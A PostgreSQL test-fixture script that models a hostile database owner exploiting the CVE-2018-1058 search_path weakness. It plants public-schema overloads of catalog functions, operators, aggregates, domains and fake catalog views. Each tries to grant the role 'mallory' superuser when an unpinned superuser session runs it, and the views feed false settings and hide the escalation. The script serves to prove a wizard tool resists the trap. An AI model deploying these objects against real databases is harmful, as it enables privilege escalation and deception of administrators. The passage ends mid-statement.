-- Hostile database owner (CVE-2018-1058 family): the trap the wizard's
-- superuser session must never step into.
--
-- Run as the ordinary role mallory connected to its own database mallorydb
-- (hostile-role-setup.sql makes both), after the setup and before the wizard:
--   psql -X -v ON_ERROR_STOP=1 "host=... port=... user=mallory dbname=mallorydb" -f hostile-role.sql
--
-- What it plants in schema public (nothing here needs a privilege mallory lacks):
--   * overloads of every function, aggregate and operator the wizard's SQL
--     calls without naming pg_catalog (functions it calls as pg_catalog.name
--     cannot be reached), with the argument types PostgreSQL resolves them to (an exact
--     match beats pg_catalog's polymorphic or defaulted candidate even under
--     the default search_path; an identical signature wins once public comes
--     before pg_catalog);
--   * views named like every catalog view/table the wizard reads, returning
--     plausible but fake rows (hba_file = /etc/shadow, data_directory = /root,
--     ssl = on, a fake plain-TCP session and a fake standby);
--   * domains public.text and public.float8, so that a `::text` or `::float8`
--     cast resolved through search_path runs a CHECK that fires too;
--   * ALTER DATABASE mallorydb SET search_path = public, pg_catalog, so a session
--     that does not pin search_path at startup searches public first.
-- Everything planted is SECURITY INVOKER (the default): it runs as the caller.
-- Each one, when executed, goes through public.mallory_trip(), which
-- (a) inserts a row into public.tripwire (INSERT granted to PUBLIC) and
-- (b) attempts ALTER ROLE mallory SUPERUSER, ignoring any error;
-- then it returns a plausible value (mostly the built-in's own answer) so the
-- caller's query does not fail.
--
-- Proof for a test: after the wizard ran against mallorydb,
--   SELECT count(*) FROM public.tripwire            -- must be 0
--   SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = 'mallory'  -- must be false
-- read with a pinned path (PGOPTIONS='-c search_path=pg_catalog,pg_temp') or
-- from another database: unpinned, in mallorydb, those reads are hostile too.
--
-- Version notes (13-18): the script creates the same objects on every version;
-- row-shaped fakes use the running server's own row types
-- (RETURNS SETOF pg_catalog.<view>, filled with jsonb_populate_record), so
-- columns added or removed between versions (pg_hba_file_rules.rule_number and
-- file_name in 16, pg_auth_members.oid in 16, ...) follow the server.
-- Planted but out of reach by design (they must never fire, even unpinned):
-- "extract"(text, timestamptz) (14+) and date_part(text, timestamptz) (13),
-- which the grammar calls as pg_catalog.* for EXTRACT(... FROM ...);
-- "current_user"() (16+ calls pg_catalog.current_user; 13-15 use no function);
-- and the cast functions float8(numeric), int4(bigint), int8(integer), which
-- casts find through pg_cast, not through search_path.

\set ON_ERROR_STOP on
-- This script's own names resolve in pg_catalog only; everything it creates is
-- schema-qualified.
SET search_path = pg_catalog, pg_temp;
SET check_function_bodies = on;
SET client_min_messages = warning;

BEGIN;

-- ---------------------------------------------------------------------------
-- The tripwire and the one helper every planted object calls.
-- ---------------------------------------------------------------------------
CREATE TABLE public.tripwire (
    at   pg_catalog.timestamptz DEFAULT pg_catalog.now(),
    what pg_catalog.text
);
GRANT INSERT ON public.tripwire TO PUBLIC;

CREATE FUNCTION public.mallory_trip(p_what pg_catalog.text) RETURNS void
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    INSERT INTO public.tripwire (what) VALUES (p_what);
    BEGIN
        ALTER ROLE mallory SUPERUSER;
    EXCEPTION WHEN OTHERS THEN
        NULL;  -- not a superuser caller: stay quiet, the query must not fail
    END;
END
$$;

-- For domain CHECK constraints: fires, then lets the value through.
CREATE FUNCTION public.mallory_trip_check(p_what pg_catalog.text) RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    PERFORM public.mallory_trip(p_what);
    RETURN true;
END
$$;

-- ---------------------------------------------------------------------------
-- Functions, by the wizard statement that calls them.
-- ---------------------------------------------------------------------------

-- InspectionQueries.serverFacts: current_setting(text), version(),
-- pg_is_in_recovery(), pg_conf_load_time(), pg_postmaster_start_time().
CREATE FUNCTION public.current_setting(pg_catalog.text) RETURNS pg_catalog.text
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('current_setting(text)'); RETURN pg_catalog.current_setting($1); END
$$;
CREATE FUNCTION public.version() RETURNS pg_catalog.text
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('version()'); RETURN pg_catalog.version(); END
$$;
CREATE FUNCTION public.pg_is_in_recovery() RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('pg_is_in_recovery()'); RETURN pg_catalog.pg_is_in_recovery(); END
$$;
CREATE FUNCTION public.pg_conf_load_time() RETURNS pg_catalog.timestamptz
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('pg_conf_load_time()'); RETURN pg_catalog.pg_conf_load_time(); END
$$;
CREATE FUNCTION public.pg_postmaster_start_time() RETURNS pg_catalog.timestamptz
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('pg_postmaster_start_time()'); RETURN pg_catalog.pg_postmaster_start_time(); END
$$;

-- InspectionQueries.systemIdentifier, EffectRunner.checkPreflight:
-- pg_control_system() (a fake cluster identity).
CREATE FUNCTION public.pg_control_system(
    OUT pg_control_version pg_catalog.int4, OUT catalog_version_no pg_catalog.int4,
    OUT system_identifier pg_catalog.int8, OUT pg_control_last_modified pg_catalog.timestamptz)
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    PERFORM public.mallory_trip('pg_control_system()');
    pg_control_version := 1300;
    catalog_version_no := 202209061;
    system_identifier := 7000000000000000042;
    pg_control_last_modified := pg_catalog.now() - interval '3 minutes';
END
$$;

-- InspectionQueries.privileges: pg_has_role(current_user, 'literal', 'MEMBER').
-- The built-in it resolves to is (name, name, text); (name, text, text) is
-- preferred over it for unknown literals (text is the preferred string type),
-- so it wins whatever the order of search_path.
CREATE FUNCTION public.pg_has_role(pg_catalog.name, pg_catalog.name, pg_catalog.text) RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('pg_has_role(name,name,text)'); RETURN pg_catalog.pg_has_role($1, $2, $3); END
$$;
CREATE FUNCTION public.pg_has_role(pg_catalog.name, pg_catalog.text, pg_catalog.text) RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('pg_has_role(name,text,text)'); RETURN pg_catalog.pg_has_role($1, $2::pg_catalog.name, $3); END
$$;

-- InspectionQueries.sessions, SQLText.plainTCPSessions, Connection.ownSession: host(inet).
CREATE FUNCTION public.host(pg_catalog.inet) RETURNS pg_catalog.text
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('host(inet)'); RETURN pg_catalog.host($1); END
$$;

-- Connection.ownSession: pg_backend_pid() (also SQLText.ownTLS and
-- SessionTermination.stillExposed), inet_server_addr(), inet_client_addr(),
-- current_database().
CREATE FUNCTION public.pg_backend_pid() RETURNS pg_catalog.int4
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('pg_backend_pid()'); RETURN pg_catalog.pg_backend_pid(); END
$$;
CREATE FUNCTION public.inet_server_addr() RETURNS pg_catalog.inet
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('inet_server_addr()'); RETURN pg_catalog.inet_server_addr(); END
$$;
CREATE FUNCTION public.inet_client_addr() RETURNS pg_catalog.inet
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('inet_client_addr()'); RETURN pg_catalog.inet_client_addr(); END
$$;
CREATE FUNCTION public.current_database() RETURNS pg_catalog.name
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('current_database()'); RETURN pg_catalog.current_database(); END
$$;

-- ServerLog.locate: pg_current_logfile().
CREATE FUNCTION public.pg_current_logfile() RETURNS pg_catalog.text
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('pg_current_logfile()'); RETURN pg_catalog.pg_current_logfile(); END
$$;

-- SQLText.reload (ReloadProof.reload, RunRollback): pg_reload_conf().
CREATE FUNCTION public.pg_reload_conf() RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('pg_reload_conf()'); RETURN pg_catalog.pg_reload_conf(); END
$$;

-- SessionTermination.terminate: pg_terminate_backend(pid) with pid integer
-- (13: (integer); 14+: (integer, bigint DEFAULT 0)), and SQLText.terminate on
-- 14+: pg_terminate_backend(<int literal>, <int literal>), which the built-in
-- (integer, bigint) only takes with a cast, so the exact (integer, integer)
-- wins whatever the order of search_path. Both claim success and end nobody.
CREATE FUNCTION public.pg_terminate_backend(pg_catalog.int4) RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('pg_terminate_backend(integer)'); RETURN true; END
$$;
CREATE FUNCTION public.pg_terminate_backend(pg_catalog.int4, pg_catalog.int4) RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('pg_terminate_backend(integer,integer)'); RETURN true; END
$$;

-- SessionTermination.terminate: FROM unnest($1::int[]) (built-in: unnest(anyarray)).
CREATE FUNCTION public.unnest(pg_catalog.int4[]) RETURNS SETOF pg_catalog.int4
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    PERFORM public.mallory_trip('unnest(integer[])');
    RETURN QUERY SELECT u FROM pg_catalog.unnest($1) AS u;
END
$$;

-- InspectionQueries.hbaFileRules: FROM pg_hba_file_rules() WITH ORDINALITY.
-- Rows as the running version shapes them (see the view of the same name).
CREATE FUNCTION public.mallory_fake_pg_hba_file_rules(p_what pg_catalog.text)
RETURNS SETOF pg_catalog.pg_hba_file_rules
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    PERFORM public.mallory_trip(p_what);
    RETURN QUERY
    SELECT r.*
    FROM (VALUES
        ('{"rule_number": 1, "file_name": "/etc/shadow", "line_number": 1, "type": "local", "database": ["all"], "user_name": ["all"], "auth_method": "peer"}'::jsonb),
        ('{"rule_number": 2, "file_name": "/etc/shadow", "line_number": 2, "type": "hostssl", "database": ["all"], "user_name": ["all"], "address": "0.0.0.0", "netmask": "0.0.0.0", "auth_method": "scram-sha-256"}'::jsonb),
        ('{"rule_number": 3, "file_name": "/etc/shadow", "line_number": 3, "type": "host", "database": ["all"], "user_name": ["mallory"], "address": "0.0.0.0", "netmask": "0.0.0.0", "auth_method": "trust"}'::jsonb),
        -- An error row the wizard tolerates, so that its `error <> '...'` runs.
        ('{"file_name": "/etc/shadow", "line_number": 4, "error": "hostssl record cannot match because SSL is disabled"}'::jsonb)
    ) AS v(j)
    CROSS JOIN LATERAL pg_catalog.jsonb_populate_record(NULL::pg_catalog.pg_hba_file_rules, v.j) AS r;
END
$$;
CREATE FUNCTION public.pg_hba_file_rules() RETURNS SETOF pg_catalog.pg_hba_file_rules
LANGUAGE sql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
    SELECT * FROM public.mallory_fake_pg_hba_file_rules('pg_hba_file_rules()')
$$;

-- Reached by no wizard statement by design; planted to show that (see the header).
CREATE FUNCTION public."extract"(pg_catalog.text, pg_catalog.timestamptz) RETURNS pg_catalog.numeric
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('extract(text,timestamptz)'); RETURN pg_catalog.date_part($1, $2)::pg_catalog.numeric; END
$$;
CREATE FUNCTION public.date_part(pg_catalog.text, pg_catalog.timestamptz) RETURNS pg_catalog.float8
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('date_part(text,timestamptz)'); RETURN pg_catalog.date_part($1, $2); END
$$;
CREATE FUNCTION public."current_user"() RETURNS pg_catalog.name
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('current_user()'); RETURN CURRENT_USER; END
$$;
CREATE FUNCTION public.float8(pg_catalog.numeric) RETURNS pg_catalog.float8
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('float8(numeric)'); RETURN $1::pg_catalog.float8; END
$$;
CREATE FUNCTION public.int4(pg_catalog.int8) RETURNS pg_catalog.int4
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('int4(bigint)'); RETURN $1::pg_catalog.int4; END
$$;
CREATE FUNCTION public.int8(pg_catalog.int4) RETURNS pg_catalog.int8
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('int8(integer)'); RETURN $1::pg_catalog.int8; END
$$;

-- ---------------------------------------------------------------------------
-- Aggregates.
-- ---------------------------------------------------------------------------

-- InspectionQueries.roleMemberships: array_agg(m.rolname ORDER BY m.rolname)
-- (built-in: array_agg(anynonarray)).
CREATE FUNCTION public.mallory_array_agg_name_step(pg_catalog.name[], pg_catalog.name) RETURNS pg_catalog.name[]
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('array_agg(name)'); RETURN pg_catalog.array_append($1, $2); END
$$;
CREATE AGGREGATE public.array_agg(pg_catalog.name) (
    SFUNC = public.mallory_array_agg_name_step, STYPE = pg_catalog.name[]
);

-- PreReloadChecks.candidateHBA, EffectRunner.waitForIdle: count(*)
-- (identical to the built-in count(): wins when public comes first).
CREATE FUNCTION public.mallory_count_star_step(pg_catalog.int8) RETURNS pg_catalog.int8
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('count(*)'); RETURN $1 + 1; END
$$;
CREATE AGGREGATE public.count(*) (
    SFUNC = public.mallory_count_star_step, STYPE = pg_catalog.int8, INITCOND = '0'
);

-- SessionTermination.terminate: count(pg_terminate_backend(pid)) (built-in: count("any")).
CREATE FUNCTION public.mallory_count_bool_step(pg_catalog.int8, pg_catalog.bool) RETURNS pg_catalog.int8
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    PERFORM public.mallory_trip('count(boolean)');
    RETURN CASE WHEN $2 IS NULL THEN $1 ELSE $1 + 1 END;
END
$$;
CREATE AGGREGATE public.count(pg_catalog.bool) (
    SFUNC = public.mallory_count_bool_step, STYPE = pg_catalog.int8, INITCOND = '0'
);

-- ---------------------------------------------------------------------------
-- Operators (each function answers what the built-in would).
-- ---------------------------------------------------------------------------

-- =(name, name): privileges and checkPreflight, r.rolname = current_user.
CREATE FUNCTION public.mallory_op_eq_name(pg_catalog.name, pg_catalog.name) RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('=(name,name)'); RETURN $1 OPERATOR(pg_catalog.=) $2; END
$$;
CREATE OPERATOR public.= (LEFTARG = pg_catalog.name, RIGHTARG = pg_catalog.name, FUNCTION = public.mallory_op_eq_name);

-- =(text, text): name = ANY($1::text[]) on pg_settings/pg_file_settings
-- (settings, settingsFingerprint, EvidenceReader), r.state = 'streaming'
-- (streamingOverSSL), backend_type = 'client backend' and
-- state IS DISTINCT FROM 'idle' (waitForIdle).
CREATE FUNCTION public.mallory_op_eq_text(pg_catalog.text, pg_catalog.text) RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('=(text,text)'); RETURN $1 OPERATOR(pg_catalog.=) $2; END
$$;
CREATE OPERATOR public.= (LEFTARG = pg_catalog.text, RIGHTARG = pg_catalog.text, FUNCTION = public.mallory_op_eq_text);

-- =(integer, integer): pid joins (USING (pid)),
-- pid = pg_backend_pid() (ownTLS), a.pid = ANY($1::int[]) (stillExposed,
-- present, waitForIdle).
CREATE FUNCTION public.mallory_op_eq_int4(pg_catalog.int4, pg_catalog.int4) RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('=(integer,integer)'); RETURN $1 OPERATOR(pg_catalog.=) $2; END
$$;
CREATE OPERATOR public.= (LEFTARG = pg_catalog.int4, RIGHTARG = pg_catalog.int4, FUNCTION = public.mallory_op_eq_int4);

-- =(oid, oid): roleMemberships, am.roleid = r.oid and m.oid = am.member;
-- sessions, d.oid = s.datid and r.oid = s.usesysid.
CREATE FUNCTION public.mallory_op_eq_oid(pg_catalog.oid, pg_catalog.oid) RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('=(oid,oid)'); RETURN $1 OPERATOR(pg_catalog.=) $2; END
$$;
CREATE OPERATOR public.= (LEFTARG = pg_catalog.oid, RIGHTARG = pg_catalog.oid, FUNCTION = public.mallory_op_eq_oid);

-- <>(text, text): SQLText.hbaFileRulesProblems, error <> '...'.
CREATE FUNCTION public.mallory_op_ne_text(pg_catalog.text, pg_catalog.text) RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('<>(text,text)'); RETURN $1 OPERATOR(pg_catalog.<>) $2; END
$$;
CREATE OPERATOR public.<> (LEFTARG = pg_catalog.text, RIGHTARG = pg_catalog.text, FUNCTION = public.mallory_op_ne_text);

-- <>(integer, integer): client_port <> -1 (plainTCPSessions, stillExposed),
-- a.pid <> pg_backend_pid() (stillPlain). (-1 is a constant: no prefix minus.)
CREATE FUNCTION public.mallory_op_ne_int4(pg_catalog.int4, pg_catalog.int4) RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('<>(integer,integer)'); RETURN $1 OPERATOR(pg_catalog.<>) $2; END
$$;
CREATE OPERATOR public.<> (LEFTARG = pg_catalog.int4, RIGHTARG = pg_catalog.int4, FUNCTION = public.mallory_op_ne_int4);

-- +(integer, integer) and *(integer, integer): the fresh look's argument,
-- a.pid + 0 * length(...) (SQLText.endExposedAtBoundary).
CREATE FUNCTION public.mallory_op_plus_int4(pg_catalog.int4, pg_catalog.int4) RETURNS pg_catalog.int4
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('+(integer,integer)'); RETURN $1 OPERATOR(pg_catalog.+) $2; END
$$;
CREATE OPERATOR public.+ (LEFTARG = pg_catalog.int4, RIGHTARG = pg_catalog.int4, FUNCTION = public.mallory_op_plus_int4);
CREATE FUNCTION public.mallory_op_times_int4(pg_catalog.int4, pg_catalog.int4) RETURNS pg_catalog.int4
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('*(integer,integer)'); RETURN $1 OPERATOR(pg_catalog.*) $2; END
$$;
CREATE OPERATOR public.* (LEFTARG = pg_catalog.int4, RIGHTARG = pg_catalog.int4, FUNCTION = public.mallory_op_times_int4);

-- *(numeric, integer), *(double precision, integer) and =(bigint, bigint): a
-- backend's start in microseconds, EXTRACT(epoch ...) * 1000000 (numeric on
-- 14+, float8 on 13), compared with the plan's (SQLText.samePlannedBackend,
-- the sessions query, the guarded pg_terminate_backend).
CREATE FUNCTION public.mallory_op_times_numeric_int4(pg_catalog.numeric, pg_catalog.int4) RETURNS pg_catalog.numeric
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('*(numeric,integer)'); RETURN $1 OPERATOR(pg_catalog.*) $2::pg_catalog.numeric; END
$$;
CREATE OPERATOR public.* (LEFTARG = pg_catalog.numeric, RIGHTARG = pg_catalog.int4, FUNCTION = public.mallory_op_times_numeric_int4);
CREATE FUNCTION public.mallory_op_times_float8_int4(pg_catalog.float8, pg_catalog.int4) RETURNS pg_catalog.float8
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('*(double precision,integer)'); RETURN $1 OPERATOR(pg_catalog.*) $2::pg_catalog.float8; END
$$;
CREATE OPERATOR public.* (LEFTARG = pg_catalog.float8, RIGHTARG = pg_catalog.int4, FUNCTION = public.mallory_op_times_float8_int4);
CREATE FUNCTION public.mallory_op_eq_int8(pg_catalog.int8, pg_catalog.int8) RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('=(bigint,bigint)'); RETURN $1 OPERATOR(pg_catalog.=) $2; END
$$;
CREATE OPERATOR public.= (LEFTARG = pg_catalog.int8, RIGHTARG = pg_catalog.int8, FUNCTION = public.mallory_op_eq_int8);

-- ~~(text, text): pg_settings.name LIKE 'ssl%' (settings; pg_settings.name is
-- text) and sourcefile LIKE '%postgresql.auto.conf' (settingsFingerprint).
CREATE FUNCTION public.mallory_op_like_text(pg_catalog.text, pg_catalog.text) RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('~~(text,text)'); RETURN $1 OPERATOR(pg_catalog.~~) $2; END
$$;
CREATE OPERATOR public.~~ (LEFTARG = pg_catalog.text, RIGHTARG = pg_catalog.text, FUNCTION = public.mallory_op_like_text);

-- ~~(name, text): LIKE on a name column. No wizard statement has one today
-- (pg_settings.name is text); identical to the built-in, it would win by
-- search_path order.
CREATE FUNCTION public.mallory_op_like_name(pg_catalog.name, pg_catalog.text) RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('~~(name,text)'); RETURN $1 OPERATOR(pg_catalog.~~) $2; END
$$;
CREATE OPERATOR public.~~ (LEFTARG = pg_catalog.name, RIGHTARG = pg_catalog.text, FUNCTION = public.mallory_op_like_name);

-- ||(text, text): 'live:' || name and 'file:' || name (settingsFingerprint).
CREATE FUNCTION public.mallory_op_concat_text(pg_catalog.text, pg_catalog.text) RETURNS pg_catalog.text
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN PERFORM public.mallory_trip('||(text,text)'); RETURN $1 OPERATOR(pg_catalog.||) $2; END
$$;
CREATE OPERATOR public.|| (LEFTARG = pg_catalog.text, RIGHTARG = pg_catalog.text, FUNCTION = public.mallory_op_concat_text);

-- ---------------------------------------------------------------------------
-- Types: `::text`, `$1::text[]` and `::float8` name their type through
-- search_path (int, integer, bigint are keywords and always pg_catalog's).
-- A domain's CHECK runs as the caller on every value cast to it.
-- Created after every function above, so none of their signatures uses them.
-- ---------------------------------------------------------------------------
CREATE DOMAIN public.text AS pg_catalog.text
    CONSTRAINT mallory_text CHECK (public.mallory_trip_check('type text'));
CREATE DOMAIN public.float8 AS pg_catalog.float8
    CONSTRAINT mallory_float8 CHECK (public.mallory_trip_check('type float8'));

-- ---------------------------------------------------------------------------
-- Views named like the catalog relations the wizard reads. Each selects from
-- a planted function (which fires) returning rows of the real view's type.
-- ---------------------------------------------------------------------------

-- pg_settings: InspectionQueries.settings, settingsFingerprint,
-- EvidenceReader. The real rows, with the wizard's key settings lied about.
CREATE FUNCTION public.mallory_fake_pg_settings() RETURNS SETOF pg_catalog.pg_settings
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    PERFORM public.mallory_trip('view pg_settings');
    RETURN QUERY
    SELECT r.*
    FROM pg_catalog.pg_settings AS s
    LEFT JOIN (VALUES
        ('hba_file',                 '/etc/shadow'),
        ('ident_file',               '/etc/passwd'),
        ('data_directory',           '/root'),
        ('config_file',              '/root/postgresql.conf'),
        ('ssl',                      'on'),
        ('ssl_cert_file',            '/etc/ssl/certs/ssl-cert-snakeoil.pem'),
        ('ssl_key_file',             '/root/.ssh/id_rsa'),
        ('ssl_min_protocol_version', 'TLSv1.3'),
        ('listen_addresses',         '*'),
        ('port',                     '5432')
    ) AS lie(name, setting) ON lie.name OPERATOR(pg_catalog.=) s.name
    CROSS JOIN LATERAL pg_catalog.jsonb_populate_record(s,
        CASE WHEN lie.name IS NULL THEN '{}'::jsonb
             ELSE pg_catalog.jsonb_build_object('setting', lie.setting, 'reset_val', lie.setting,
                                                'source', 'configuration file',
                                                'sourcefile', '/root/postgresql.conf',
                                                'sourceline', 7, 'pending_restart', false) END) AS r;
END
$$;
CREATE VIEW public.pg_settings AS SELECT * FROM public.mallory_fake_pg_settings();

-- pg_file_settings: InspectionQueries.fileSettings, SQLText.fileSettingErrors,
-- settingsFingerprint.
CREATE FUNCTION public.mallory_fake_pg_file_settings() RETURNS SETOF pg_catalog.pg_file_settings
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    PERFORM public.mallory_trip('view pg_file_settings');
    RETURN QUERY
    SELECT r.*
    FROM (VALUES
        ('{"sourcefile": "/root/postgresql.conf", "sourceline": 5, "seqno": 1, "name": "hba_file", "setting": "/etc/shadow", "applied": true}'::jsonb),
        ('{"sourcefile": "/root/postgresql.conf", "sourceline": 7, "seqno": 2, "name": "ssl", "setting": "on", "applied": true}'::jsonb),
        ('{"sourcefile": "/root/postgresql.auto.conf", "sourceline": 3, "seqno": 3, "name": "ssl_min_protocol_version", "setting": "TLSv1.3", "applied": true}'::jsonb)
    ) AS v(j)
    CROSS JOIN LATERAL pg_catalog.jsonb_populate_record(NULL::pg_catalog.pg_file_settings, v.j) AS r;
END
$$;
CREATE VIEW public.pg_file_settings AS SELECT * FROM public.mallory_fake_pg_file_settings();

-- pg_hba_file_rules (view): PreReloadChecks.candidateHBA (count(*)),
-- SQLText.hbaFileRulesProblems.
CREATE VIEW public.pg_hba_file_rules AS
    SELECT * FROM public.mallory_fake_pg_hba_file_rules('view pg_hba_file_rules');

-- pg_roles: privileges, checkPreflight, roleMemberships, sessions. The real roles, but
-- mallory never shows as privileged (hides the escalation).
CREATE FUNCTION public.mallory_fake_pg_roles() RETURNS SETOF pg_catalog.pg_roles
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    PERFORM public.mallory_trip('view pg_roles');
    RETURN QUERY
    SELECT r.*
    FROM pg_catalog.pg_roles AS s
    CROSS JOIN LATERAL pg_catalog.jsonb_populate_record(s,
        CASE WHEN s.rolname OPERATOR(pg_catalog.=) 'mallory'
             THEN '{"rolsuper": false, "rolcreaterole": false, "rolcreatedb": false, "rolbypassrls": false}'::jsonb
             ELSE '{}'::jsonb END) AS r;
END
$$;
CREATE VIEW public.pg_roles AS SELECT * FROM public.mallory_fake_pg_roles();

-- pg_database (a table in pg_catalog): sessions (each session's database). The real rows.
CREATE FUNCTION public.mallory_fake_pg_database() RETURNS SETOF pg_catalog.pg_database
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    PERFORM public.mallory_trip('table pg_database');
    RETURN QUERY SELECT * FROM pg_catalog.pg_database;
END
$$;
CREATE VIEW public.pg_database AS SELECT * FROM public.mallory_fake_pg_database();

-- pg_auth_members (a table in pg_catalog): roleMemberships. The real rows
-- plus a fake grant of pg_signal_backend to mallory.
CREATE FUNCTION public.mallory_fake_pg_auth_members() RETURNS SETOF pg_catalog.pg_auth_members
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    PERFORM public.mallory_trip('table pg_auth_members');
    RETURN QUERY SELECT * FROM pg_catalog.pg_auth_members;
    RETURN QUERY
    SELECT r.* FROM pg_catalog.jsonb_populate_record(NULL::pg_catalog.pg_auth_members,
        pg_catalog.jsonb_build_object('oid', 16999,
            'roleid', (SELECT oid FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) 'pg_signal_backend'),
            'member', (SELECT oid FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) 'mallory'),
